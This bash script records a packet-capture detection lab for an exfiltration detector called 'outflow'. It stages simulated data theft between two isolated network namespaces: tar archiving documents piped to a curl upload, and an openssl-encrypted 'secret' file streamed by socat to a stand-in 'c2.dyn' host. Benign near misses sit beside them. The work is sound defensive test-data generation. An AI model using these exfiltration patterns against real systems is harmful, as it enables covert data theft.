#!/usr/bin/env bash
# Records pcaps/outflow-detect.pcap, the detection lab: real programs
# (curl, tar, python3, openssl, socat) doing what the analytics look for,
# and near misses beside them, across a veth pair between two network
# namespaces. At the same time `outflow live --on-host` runs in the
# client's namespace and writes the processes, connections and crypto
# libraries it attributed from /proc to outflow-detect.events.jsonl: the
# recording's host events. What the programs reported goes to
# reported/detect-*.
#
# Run as root, by hand: sudo bash pcaps/record-detect.sh
# Needs (Debian): tcpdump curl openssl socat python3 iproute2 ethtool tar, and Go (builds outflow).
# Only the two namespaces' addresses are ever contacted.
set -euo pipefail
cd "$(dirname "$0")"
here=$(pwd)
. ./lib.sh

C=of-det-client S=of-det-server
CLIENT=10.77.0.2 SERVER=198.51.100.10
D=example-storage.test
out=$here/outflow-detect.pcap events=$here/outflow-detect.events.jsonl rep=$here/reported
begin $C $S

need tcpdump curl openssl socat python3 ip ethtool tar go
(cd .. && go build -o "$work/outflow" ./cmd/outflow)

two_hosts $C $S of-det-c of-det-s $CLIENT $SERVER
mkdir -p /etc/netns/$C
echo "nameserver $SERVER" > /etc/netns/$C/resolv.conf
printf '127.0.0.1 localhost\n' > /etc/netns/$C/hosts

# Content: documents to archive (random, so tar does not shrink them), an
# upload for a file-sharing service, a file to download, a small upload, a
# gzip'd report, a text to encrypt, and a backup stream.
mkdir -p "$work/www" "$work/tls" "$work/docs"
python3 - "$work" <<'PY'
import os, random, sys, gzip
w = sys.argv[1]
rnd = random.Random(7)
words = "the quick brown fox jumps over a lazy dog while quarterly report figures load".split()
text = "\n".join(" ".join(rnd.choice(words) for _ in range(12)) for _ in range(20000)).encode()
for i in range(24):
    open(f"{w}/docs/contract-{i:02d}.pdf", "wb").write(os.urandom(64 << 10))
open(f"{w}/share-2m5.bin", "wb").write(os.urandom(5 << 19))
open(f"{w}/www/dataset-1m5.bin", "wb").write(os.urandom(3 << 19))
open(f"{w}/small-512k.bin", "wb").write(os.urandom(512 << 10))
open(f"{w}/report.txt.gz", "wb").write(gzip.compress(text[:1200000], 9))
open(f"{w}/secret.txt", "wb").write(text[:300000])
open(f"{w}/backup.txt", "wb").write(text[300000:600000])
PY
san=""
for n in files upload rare doh backup c2.dyn www; do san="$san,DNS:$n.$D"; done
openssl req -x509 -newkey rsa:2048 -nodes -days 3650 -subj "/CN=files.$D" -addext "subjectAltName=${san#,}" \
  -keyout "$work/tls/server.key" -out "$work/tls/server.crt" >/dev/null 2>&1

rm -f "$out" "$events" "$rep"/detect-*
ip netns exec $S python3 "$here/tools/servers.py" $SERVER "$work/www" "$work/tls" "$rep/detect-servers.jsonl" > "$work/servers.out" 2>&1 &
pids+=($!)
for _ in $(seq 50); do grep -q ready "$work/servers.out" 2>/dev/null && break; sleep 0.1; done
grep -q ready "$work/servers.out" || { cat "$work/servers.out" >&2; exit 1; }

ip netns exec $C tcpdump -i of-det-c -s 0 -U -w "$out" --time-stamp-precision=nano >"$work/tcpdump.out" 2>&1 &
pids+=($!)
tcpdump_pid=$!
ip netns exec $C "$work/outflow" live --on-host -i of-det-c --flows "$work/live-flows.jsonl" --host-events-out "$events" \
  > "$work/live.out" 2>&1 &
pids+=($!)
live_pid=$!
for _ in $(seq 50); do grep -q capturing "$work/live.out" 2>/dev/null && break; sleep 0.1; done
sleep 1

c() { ip netns exec $C timeout 60 "$@"; }
curlj() { # name, then curl arguments: keep curl's own report of each transfer
  local name=$1; shift
  c curl -sS -o /dev/null --cacert "$work/tls/server.crt" -w '%{json}\n' "$@" > "$rep/detect-curl-$name.json"
  sleep 0.5
}

# 1. AN1512: tar archives documents, curl uploads the archive over HTTPS.
c sh -c "tar c -C '$work' docs | curl -sS -o /dev/null --cacert '$work/tls/server.crt' -w '%{json}\n' --data-binary @- -X PUT https://upload.$D/docs.tar" \
  > "$rep/detect-curl-tar-upload.json"
sleep 0.5
# 2. First large upload, to a file-sharing service (the lab's list names
#    files.$D one), by python3.
PY=python3
[ -x /usr/bin/python3 ] && PY=/usr/bin/python3 # Debian's, not a user's own build
c $PY - "$work/share-2m5.bin" "https://files.$D/share" "$work/tls/server.crt" > "$rep/detect-python-upload.json" <<'PY'
import json, ssl, sys, urllib.request
path, url, ca = sys.argv[1:4]
body = open(path, "rb").read()
req = urllib.request.Request(url, data=body, method="POST", headers={"Content-Type": "application/octet-stream"})
with urllib.request.urlopen(req, context=ssl.create_default_context(cafile=ca)) as r:
    print(json.dumps({"status": r.status, "uploaded": len(body), "response": r.read().decode().strip()}))
PY
sleep 0.5
# 3. T1573.001: an openssl enc stream sent by socat (which maps libcrypto)
#    to a dynamic-DNS name on a port of its own, no handshake.
openssl enc -aes-256-cbc -pbkdf2 -pass pass:outflow -in "$work/secret.txt" -out "$work/secret.enc"
wc -c < "$work/secret.enc" > "$rep/detect-openssl-enc-bytes.txt"
# socat connects at once and then waits for its input: the connection
# outlives the moment the on-host watcher needs to find its socket.
paced() { sleep 0.3; cat "$1"; }
paced "$work/secret.enc" | c socat -u - "TCP:c2.dyn.$D:9443"
sleep 0.5
# 4. A rare host: curl fetches a page from a name nothing else uses.
curlj rare "https://rare.$D/index.html"
# Near misses.
# a. A large download.
curlj download "https://files.$D/dataset-1m5.bin"
# b. An upload under the thresholds.
curlj small-upload -X POST --data-binary "@$work/small-512k.bin" "https://files.$D/small"
# c. A gzip file over the same raw port as the cipher stream: compressed,
#    not encrypted.
paced "$work/report.txt.gz" | c socat -u - "TCP:files.$D:9443"
sleep 0.5
# d. DNS over HTTPS to a resolver the lab's config lists.
curlj doh --doh-url "https://doh.$D/dns-query" --resolve "doh.$D:443:$SERVER" "https://www.$D/index.html"
# e. An allowed backup tool: an encrypted stream to the backup server,
#    which the lab's config lists in AllowedMgmtHosts.
openssl enc -aes-256-cbc -pbkdf2 -pass pass:backup -in "$work/backup.txt" -out "$work/backup.enc"
wc -c < "$work/backup.enc" > "$rep/detect-backup-enc-bytes.txt"
paced "$work/backup.enc" | c socat -u - "TCP:backup.$D:9443"
sleep 2

kill -INT $live_pid
wait $live_pid || true
kill $tcpdump_pid 2>/dev/null || true
sleep 0.5
cp "$work/live.out" "$rep/detect-live-summary.txt"
ls -l "$out" "$events"
tshark -r "$out" -q -z conv,tcp -z conv,udp > "$rep/detect-tshark-conv.txt" 2>/dev/null || true
echo "recorded $out and $events; program reports in $rep"
